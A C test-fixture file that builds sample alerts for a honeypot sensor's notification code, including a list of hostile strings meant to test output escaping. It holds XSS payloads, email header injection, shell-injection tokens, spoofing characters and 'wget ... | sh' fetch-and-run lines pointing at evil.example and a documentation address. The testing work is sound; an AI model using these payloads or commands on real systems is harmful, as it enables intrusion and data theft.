/* SPDX-License-Identifier: BSD-2-Clause */
#include "notify/test/world.h"

#include <string.h>

static const char *const hostile[] = {
	"<script>top.pwned=1;alert(1)</script><img src=x onerror=top.pwned=1>",
	"\"><svg onload=top.pwned=1><a href=\"http://evil.example/\">click</a>",
	"x\r\nBcc: victim@evil.example\r\nSubject: forged\r\n\r\nbody\r\n.\r\nMAIL FROM:<a@b.c>",
	"wget http://evil.example/x.sh -O- | sh; curl HTTPS://evil.example:8443/a?b=c; "
	"ftp://evil.example/",
	"\x1b]0;title\x07\x1b[2J\x1b[31mred\x08\x7f\x9b\xff\xfe\xc0\xaf\xed\xa0\x80",
	"\xe2\x80\xae"
	"gpj.exe\xe2\x80\xac \xe2\x80\x8b\xe2\x81\xa6invisible\xef\xbb\xbf",
	"\xd0\xb0pple.com g\xd0\xbe\xd0\xbegle.com xn--pple-43d.com 1\xe2\x9f\x8b.2",
	"@everyone @here <!channel> <@U12345> <@&999> <#C12345|x> <https://evil.example|safe>",
	"[click](http://evil.example) **bold** ||spoiler|| `code` ~~x~~ ```\n> quote\n# head\n- "
	"list",
	"=?UTF-8?B?PHNjcmlwdD4=?= =?utf-8?q?forged?= \"quoted\" <a@b.c>, (comment)",
	"\",\"priority\":5,\"topic\":\"other\"}{{lead}}{{text}}\\\",\\u0022",
	"<165>1 2003-10-11T22:14:15Z host app - - [skep@32473 class=\"x\"] x\"]\\] forged",
	"javascript:alert(1) mailto:a@evil.example tel:+4912345 data:text/html;base64,PHA+ "
	"www.evil.example",
	"--=_skep_7_=\r\nContent-Type: text/html\r\n\r\n<b>x</b>\r\n--=_skep_7_=--\r\nFrom me",
	"<style>@import "
	"'http://evil.example/a.css';body{background:url(http://evil.example/b)}</style>",
	"<base href=http://evil.example/><meta http-equiv=refresh "
	"content=0;url=http://evil.example/>"
	"<form action=http://evil.example/><input name=a></form>",
	"&lt;script&gt; &#60;b&#62; &amp; \\x3cscript\\x3e %0d%0aBcc:%20x ${IFS} $(id) `id` ;|&",
	"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
	"AAAA"
	"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
	"AA",
	"\xf0\x9f\x98\x80\xf3\xa0\x80\x81\xcc\x81\xcc\x82\xcc\x83 e\xcc\x81 "
	"\xe0\xb8\x81\xe0\xb9\x87\xe0\xb9\x87",
};

static const struct honest {
	const char *name;
	uint8_t kind, class, weight, event_kind, direction, verdict, proto;
	uint16_t port;
	const char *source, *guest, *what, *text;
} honest[] = {
	{"outbound", ALERT_FIRST, ALERT_OUTBOUND, 7, EVENT_CONNECTION, DIR_OUTBOUND,
	 VERDICT_REDIRECT, 6, 80, "198.51.100.77", "web1", "",
	 "web1 -> 198.51.100.77:80 TCP, the 1st of 10 this hour"},
	{"login", ALERT_MORE, ALERT_LOGIN, 6, EVENT_LOGIN, DIR_INBOUND, VERDICT_FORWARD, 6, 22,
	 "203.0.113.5", "web1", "root", "root logged in by password over ssh"},
	{"escape", ALERT_FIRST, ALERT_ESCAPE, 9, EVENT_ESCAPE, DIR_NONE, 0, 0, 0, NULL, "web1",
	 "filter", "the QEMU of web1 made a call that it may not (ptrace) and was ended"},
	{"silence", ALERT_FIRST, ALERT_SILENCE, 8, EVENT_SILENCE, DIR_NONE, 0, 0, 0, NULL, "web1",
	 "monitor", "the monitor in web1 has said nothing for 15 s"},
	{"limit", ALERT_FIRST, ALERT_LIMIT, 5, EVENT_LIMIT, DIR_OUTBOUND, VERDICT_LIMIT, 6, 443,
	 "198.51.100.77", "web1", "tcp", "web1 used up its 10 TCP conversations of this hour"},
	{"rule", ALERT_FIRST, ALERT_RULE_HIGH, 5, EVENT_ALERT, DIR_INBOUND, VERDICT_FORWARD, 6, 80,
	 "2001:db8:66::5", "web1", "SKEP shell in a request's header",
	 "SKEP shell in a request's header"},
	{"inbound", ALERT_FIRST, ALERT_INBOUND, 2, EVENT_CONNECTION, DIR_INBOUND, VERDICT_FORWARD,
	 6, 22, "2001:db8:66::5", "web1", "", "2001:db8:66::5 -> web1 port 22"},
	{"health", ALERT_FIRST, ALERT_HEALTH, 4, EVENT_HEALTH, DIR_NONE, 0, 0, 0, NULL, "", "disk",
	 "the disk of the captures has 2 % left"},
	{"incident", ALERT_INCIDENT_END, ALERT_OUTBOUND, 7, EVENT_INCIDENT, DIR_NONE, 0, 0, 0,
	 "203.0.113.5", "web1", "", "incident with 203.0.113.5 became quiet"},
	{"day", ALERT_DAY_END, ALERT_LOGIN, 6, EVENT_LOGIN, DIR_INBOUND, VERDICT_FORWARD, 6, 22,
	 "203.0.113.5", "web1", "root", "root logged in by password over ssh"},
	{"budget", ALERT_FIRST, ALERT_LOGIN, 6, EVENT_LOGIN, DIR_INBOUND, VERDICT_FORWARD, 6, 22,
	 "203.0.113.5", "web1", "admin", "admin logged in by password over ssh"},
	{"test", ALERT_TEST, ALERT_HEALTH, 4, EVENT_HEALTH, DIR_NONE, 0, 0, 0, NULL, "", "", ""},
};

size_t world_samples(void)
{
	return ARRAY_LEN(honest) + ARRAY_LEN(hostile);
}

static int32_t local(void *ctx, int64_t wall_ns)
{
	return 3600;
}

struct notify_from world_from(void)
{
	return (struct notify_from){
		.sensor = "hive", .name = "skep", .domain = "sensor.example", .local = local};
}

static void place(struct sample *s)
{
	s->facts.place_ns = WORLD_NOW_NS - 58 * INT64_C(86400) * NS_PER_SEC;
	s->facts.as = 64496;
	text_copy(s->facts.country, sizeof(s->facts.country), "NL");
	text_copy(s->facts.as_name, sizeof(s->facts.as_name), "Example Hosting");
	text_copy(s->facts.os, sizeof(s->facts.os), "Linux 3.11 and newer");
	s->facts.os_ns = WORLD_NOW_NS - 3000 * INT64_C(86400) * NS_PER_SEC;
	s->facts.hops = 12;
	s->facts.hosting = 1;
}

static void history(struct alert_message *m)
{
	m->seen_ns = WORLD_NOW_NS - 3 * INT64_C(86400) * NS_PER_SEC;
	m->seen_times = 14;
	m->n_counts = 2;
	m->counts[0] = (struct alert_count){.class = ALERT_LOGIN,
					    .why = ALERT_WINDOW,
					    .n = 411,
					    .first_ns = WORLD_NOW_NS - 1700 * NS_PER_SEC,
					    .last_ns = WORLD_NOW_NS - 20 * NS_PER_SEC};
	m->counts[1] = (struct alert_count){.class = ALERT_INBOUND,
					    .why = ALERT_QUIET,
					    .quiet = 1,
					    .n = 3,
					    .first_ns = WORLD_NOW_NS - 900 * NS_PER_SEC,
					    .last_ns = WORLD_NOW_NS - 900 * NS_PER_SEC};
}

static void common(struct sample *s, size_t i)
{
	struct alert_message *m = &s->m;
	m->number = 7 + i;
	m->at_ns = WORLD_NOW_NS;
	m->what.time_ns = WORLD_NOW_NS - NS_PER_SEC;
	m->what.id = (uint64_t)(m->what.time_ns / 1000);
	s->facts.hops = 255;
}

static void incident(struct alert_message *m)
{
	m->incident = m->what.incident = 1795878000000000;
	m->since_ns = WORLD_NOW_NS - 1800 * NS_PER_SEC;
	m->what.session = 1795878000000123;
	m->what.flow_id = 123456;
}

static void make_honest(const struct honest *h, struct sample *s)
{
	struct alert_message *m = &s->m;
	struct alert_input *in = &m->what;
	text_copy(s->name, sizeof(s->name), h->name);
	m->kind = h->kind;
	m->class = in->class = h->class;
	m->weight = h->weight;
	m->bypass = h->class == ALERT_ESCAPE;
	in->kind = h->event_kind;
	in->direction = h->direction;
	in->verdict = h->verdict;
	in->proto = h->proto;
	in->port = h->port;
	text_copy(in->guest, sizeof(in->guest), h->guest);
	text_copy(in->what, sizeof(in->what), h->what);
	text_copy(in->text, sizeof(in->text), h->text);
	if (h->source != NULL && addr_parse(h->source, &in->source) == 0) {
		incident(m);
		place(s);
	}
	if (h->class == ALERT_OUTBOUND || h->class == ALERT_LOGIN) {
		static const char *const lines[] = {
			"uname -a", "cd /tmp; wget http://198.51.100.77/x.sh -O- | sh",
			"cat /proc/cpuinfo | grep -c processor"};
		for (m->n_commands = 0; m->n_commands < ARRAY_LEN(lines); m->n_commands++)
			text_copy(m->commands[m->n_commands], ALERT_COMMAND, lines[m->n_commands]);
	}
	if (h->class == ALERT_RULE_HIGH) {
		in->gid = 1;
		in->sid = 9000123;
		in->severity = 1;
	}
	if (h->kind == ALERT_MORE || h->kind == ALERT_INCIDENT_END || h->kind == ALERT_DAY_END) {
		history(m);
		m->thread = 3;
		m->sent = 2;
	}
	if (strcmp(h->name, "budget") == 0) {
		m->budget = ALERT_HOUR;
		m->quiet_until_ns = WORLD_NOW_NS + 1555 * NS_PER_SEC;
	}
}

/* Everything that an intruder has a hand in, all at once. */
static void make_hostile(size_t i, struct sample *s)
{
	struct alert_message *m = &s->m;
	const char *text = hostile[i];
	struct writer w = writer_of(s->name, sizeof(s->name));
	write_fmt(&w, "hostile-%02zu", i);
	m->kind = i % 2 ? ALERT_MORE : ALERT_FIRST;
	m->class = m->what.class = (uint8_t)(i % ALERT_CLASSES);
	m->weight = (uint8_t)(i % 10);
	m->what.kind = (uint8_t)(i % 3 == 0 ? EVENT_MISMATCH : EVENT_LOGIN);
	m->what.direction = DIR_INBOUND;
	m->what.proto = 6;
	m->what.port = 22;
	m->what.sid = 7;
	m->what.source = addr_from_v4("\xcb\x00\x71\x09");
	incident(m);
	history(m);
	place(s);
	text_copy(m->what.guest, sizeof(m->what.guest), text);
	text_copy(m->what.what, sizeof(m->what.what), text);
	text_copy(m->what.text, sizeof(m->what.text), text);
	text_copy(s->facts.as_name, sizeof(s->facts.as_name), text);
	text_copy(s->facts.name, sizeof(s->facts.name), text);
	for (m->n_commands = 0; m->n_commands < ALERT_COMMANDS; m->n_commands++)
		text_copy(m->commands[m->n_commands], ALERT_COMMAND,
			  hostile[(i + m->n_commands) % ARRAY_LEN(hostile)]);
}

void world_sample(size_t i, struct sample *ret)
{
	memset(ret, 0, sizeof(*ret));
	common(ret, i);
	if (i < ARRAY_LEN(honest))
		make_honest(&honest[i], ret);
	else
		make_hostile(i - ARRAY_LEN(honest), ret);
}

void world_conf(bool brief, size_t kind, struct conf_alerts *ret)
{
	struct conf_destination *d = &ret->to[0];
	memset(ret, 0, sizeof(*ret));
	ret->n_to = 1;
	d->kind = (uint8_t)kind;
	d->short_form = brief;
	text_copy(d->name, sizeof(d->name), "phone");
	text_copy(d->url, sizeof(d->url), "https://ntfy.example/hive-alerts");
	d->n_to = 2;
	text_copy(d->to[0], sizeof(d->to[0]), "ops@example.org");
	text_copy(d->to[1], sizeof(d->to[1]), "night@example.org");
	text_copy(d->from, sizeof(d->from), "skep@sensor.example");
	ret->n_quiet = 1;
	text_copy(ret->quiet[0].comment, sizeof(ret->quiet[0].comment), "unser Prüfer, bis März");
}

void world_beat(struct notify_beat *ret)
{
	*ret = (struct notify_beat){.n = 12,
				    .at_ns = WORLD_NOW_NS,
				    .every_ns = 60 * NS_PER_SEC,
				    .since_ns = WORLD_NOW_NS - 7200 * NS_PER_SEC,
				    .waiting = 1,
				    .last_event = 1795878245123455};
	text_copy(ret->why, sizeof(ret->why), "beat");
	for (size_t i = 0; i < ARRAY_LEN(ret->seals); i++) {
		struct event_seal *s = &ret->seals[i];
		text_copy(s->file, sizeof(s->file), i == 0 ? "skep.json" : "eve.json");
		s->n = 3 + i;
		s->bytes = 1000 * (i + 1);
		memset(s->sha256, 'a' + (int)i, EVENT_SHA256 - 1);
	}
}
